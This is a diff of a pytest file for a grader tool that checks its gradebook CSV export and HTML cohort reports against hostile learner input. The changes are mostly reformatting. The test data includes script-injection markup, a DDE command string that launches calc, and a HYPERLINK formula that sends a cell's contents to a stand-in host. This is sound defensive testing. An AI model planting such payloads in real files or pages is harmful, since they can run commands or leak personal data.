@@ -23,9 +23,9 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from gradebook_helpers import FIXTURE_COURSE, RIGHT, fixture_case, make_submission, released_course_dir, write_notebook
 from grader.cli import main
 from grader.gradebook.export import FORMULA_START, LEADING_SPACE, neutralise
+from helpers.gradebook import FIXTURE_COURSE, RIGHT, fixture_case, make_submission, released_course_dir, write_notebook
 
 CASE = fixture_case()
 ROOT = str(FIXTURE_COURSE)
@@ -35,15 +35,34 @@ SCRIPTED = [
     f'<img src="x" onerror="{MARK}=2">',
     f'"><svg onload="{MARK}=3">',
     f"</title><script>{MARK}=4</script>",
-    f"<iframe srcdoc=\"<script>parent.{MARK}=5</script>\">",
+    f'<iframe srcdoc="<script>parent.{MARK}=5</script>">',
 ]
 
 
 # --- CSV ------------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\ufe62", "\ufe63", "\ufe6b", "\u2212"],
-                         ids=lambda s: f"U+{ord(s[0]):04X}")
+@pytest.mark.parametrize(
+    "start",
+    [
+        "=",
+        "+",
+        "-",
+        "@",
+        "\t=",
+        "\r=",
+        "\uff1d",
+        "\uff0b",
+        "\uff0d",
+        "\uff20",
+        "\ufe66",
+        "\ufe62",
+        "\ufe63",
+        "\ufe6b",
+        "\u2212",
+    ],
+    ids=lambda s: f"U+{ord(s[0]):04X}",
+)
 def test_a_cell_that_could_be_a_formula_gets_a_leading_quote(start):
     text = f'{start}HYPERLINK("http://x.example/?"&A1,"click")'
     assert neutralise(text) == "'" + text
@@ -54,7 +73,9 @@ def test_leading_spaces_are_looked_through(space):
     assert neutralise(space + "=1+1") == "'" + space + "=1+1"
 
 
-@pytest.mark.parametrize("text", ["Zoë O'Brien", "dana.doctor@nhs.net", "GMC 7654321", "50.0", "2026-12-01T10:00:00+00:00", "", "a=b", "x-y"])
+@pytest.mark.parametrize(
+    "text", ["Zoë O'Brien", "dana.doctor@nhs.net", "GMC 7654321", "50.0", "2026-12-01T10:00:00+00:00", "", "a=b", "x-y"]
+)
 def test_ordinary_text_is_left_as_it_is(text):
     assert neutralise(text) == text
 
@@ -73,10 +94,17 @@ def test_grader_export_writes_no_formula_from_learner_text(tmp_path):
     learners = []
     for n, start in enumerate(starts):
         email_start = start.strip() if start.strip() not in {"", "@"} else ""
-        learner = {"name": f"{start}cmd|' /C calc'!A0", "email": f"{email_start}learner{n}@x.example",
-                   "registration": f"{start}SUM(1+1)*cmd|' /C calc'!A0", "profession": "nurse"}
+        learner = {
+            "name": f"{start}cmd|' /C calc'!A0",
+            "email": f"{email_start}learner{n}@x.example",
+            "registration": f"{start}SUM(1+1)*cmd|' /C calc'!A0",
+            "profession": "nurse",
+        }
         learners.append(learner)
-        write_notebook(inbox / f"{n}.ipynb", make_submission(CASE, {**RIGHT, "case-reflect": f"{start}1+1 low mood, review"}, learner))
+        write_notebook(
+            inbox / f"{n}.ipynb",
+            make_submission(CASE, {**RIGHT, "case-reflect": f"{start}1+1 low mood, review"}, learner),
+        )
     gradebook = released_course_dir(tmp_path / "gradebook")
     assert main(["collect", str(inbox), "--root", ROOT, "--course-dir", str(gradebook)]) == 0
     assert main(["autograde", "--root", ROOT, "--course-dir", str(gradebook), "--quiet"]) == 0
@@ -126,8 +154,15 @@ def hostile_report(tmp_path) -> Path:
     """A cohort report over learners whose details are markup and script."""
     inbox = tmp_path / "in"
     for n, text in enumerate(SCRIPTED):
-        learner = {"name": f"{text} {n}", "email": f"learner{n}@x.example", "registration": text[:60], "profession": "nurse"}
-        write_notebook(inbox / f"{n}.ipynb", make_submission(CASE, {**RIGHT, "case-reflect": f"low mood, review {text}"}, learner))
+        learner = {
+            "name": f"{text} {n}",
+            "email": f"learner{n}@x.example",
+            "registration": text[:60],
+            "profession": "nurse",
+        }
+        write_notebook(
+            inbox / f"{n}.ipynb", make_submission(CASE, {**RIGHT, "case-reflect": f"low mood, review {text}"}, learner)
+        )
     gradebook = released_course_dir(tmp_path / "gradebook")
     assert main(["collect", str(inbox), "--root", ROOT, "--course-dir", str(gradebook)]) == 0
     assert main(["autograde", "--root", ROOT, "--course-dir", str(gradebook), "--quiet"]) == 0
@@ -163,4 +198,6 @@ def test_the_facilitators_pack_takes_no_learner_data():
 
     source = inspect.getsource(grader.facilitator)
     assert "grader.gradebook" not in source and "grader.reports" not in source
-    assert not {"course_dir", "db_url", "records", "submissions"} & set(inspect.signature(grader.facilitator.write_project).parameters)
+    assert not {"course_dir", "db_url", "records", "submissions"} & set(
+        inspect.signature(grader.facilitator.write_project).parameters
+    )
